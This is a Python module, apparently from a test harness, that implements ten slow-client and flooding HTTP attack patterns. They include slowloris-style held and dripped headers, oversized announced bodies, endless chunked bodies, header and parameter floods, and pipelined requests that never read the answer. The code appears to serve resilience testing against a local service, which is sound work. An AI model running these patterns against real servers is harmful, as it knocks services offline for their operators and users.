"""What an attacker says on one connection, and how long it then waits before it says more."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from itertools import count
from types import MappingProxyType
from typing import Final, NamedTuple

FOREVER: Final = 3600.0
"""Seconds: longer than any attack."""

DRIP_SECONDS: Final = 0.2
"""Between two bytes of a client that drips."""

CHUNK_BYTES: Final = 2**16

PARAMETERS: Final = 20_000

PIPELINED: Final = 50
"""Requests of a client that reads no answer."""


class Request(NamedTuple):
    """A request that the service would answer, for one visitor."""

    method: str
    target: str
    headers: tuple[tuple[str, str], ...]
    body: bytes

    def head(self, *more: tuple[str, str], target: str = "") -> bytes:
        """Return the request line and the headers, with the line that ends them."""
        lines = [f"{self.method} {target or self.target} HTTP/1.1", "Host: localhost"]
        lines += [f"{name}: {value}" for name, value in (*self.headers, *more)]
        return "\r\n".join((*lines, "", "")).encode()

    def whole(self) -> bytes:
        """Return the request as an honest client sends it."""
        length = ("Content-Length", str(len(self.body)))
        return self.head(*([length] if self.body else [])) + self.body


class Said(NamedTuple):
    """What is said, and the seconds of silence after it."""

    data: bytes
    pause: float = 0.0


Attack = Callable[[Request], Iterator[Said]]
"""After the last of what it says the client goes away, without a word."""


def hold_head(request: Request) -> Iterator[Said]:
    """Say half of the headers, and no more."""
    yield Said(request.head()[:-2], FOREVER)


def hold_body(request: Request) -> Iterator[Said]:
    """Announce a body, where there should be none too, and say half of it."""
    announced = ("Content-Length", str(len(request.body) + 1000))
    yield Said(request.head(announced) + request.body[:-4], FOREVER)


def drip_head(request: Request) -> Iterator[Said]:
    """Say the headers a byte at a time."""
    yield from (Said(bytes([byte]), DRIP_SECONDS) for byte in request.head())


def drip_body(request: Request) -> Iterator[Said]:
    """Say the headers, and the body a byte at a time."""
    yield Said(request.head(("Content-Length", "100000")))
    yield from (Said(bytes([byte]), DRIP_SECONDS) for byte in request.body + b" " * 100_000)


def flood_body(request: Request) -> Iterator[Said]:
    """Send a body without end."""
    yield Said(request.head(("Transfer-Encoding", "chunked")) + _chunk(request.body or b"{"))
    while True:
        yield Said(_chunk(b"&" * CHUNK_BYTES))


def flood_parameters(request: Request) -> Iterator[Said]:
    """Send as many parameters as the address takes, and a form of thousands of fields."""
    many = "&".join(f"p{number}=" for number in range(6_000))
    target = f"{request.target.partition('?')[0]}?{many}"
    form = b"&".join(b"f%d=" % number for number in range(PARAMETERS))
    if not request.body:
        yield Said(request.head(target=target), FOREVER)
    yield Said(request.head(("Content-Length", str(len(form))), target=target) + form, FOREVER)


def flood_headers(request: Request) -> Iterator[Said]:
    """Send headers without end."""
    yield Said(request.head()[:-2])
    for number in count():
        yield Said(b"X-%d: " % number + b"x" * 8_000 + b"\r\n")


def leave_amid(request: Request) -> Iterator[Said]:
    """Go away in the middle of the request."""
    said = request.head(("Content-Length", str(len(request.body) + 1000))) + request.body
    yield Said(said[: -len(request.body) // 2 or -4], 0.02)


def leave_before_the_answer(request: Request) -> Iterator[Said]:
    """Say all, and go away."""
    yield Said(request.whole(), 0.002)


def read_nothing(request: Request) -> Iterator[Said]:
    """Say all, again and again, and read no answer."""
    yield Said(request.whole() * PIPELINED, FOREVER)


ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
    {
        "hold the headers": hold_head,
        "hold the body": hold_body,
        "drip the headers": drip_head,
        "drip the body": drip_body,
        "flood with a body": flood_body,
        "flood with parameters": flood_parameters,
        "flood with headers": flood_headers,
        "leave amid the request": leave_amid,
        "leave before the answer": leave_before_the_answer,
        "read no answer": read_nothing,
    }
)

DEAF: Final = frozenset({read_nothing})
"""Those that read nothing of what comes."""


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)
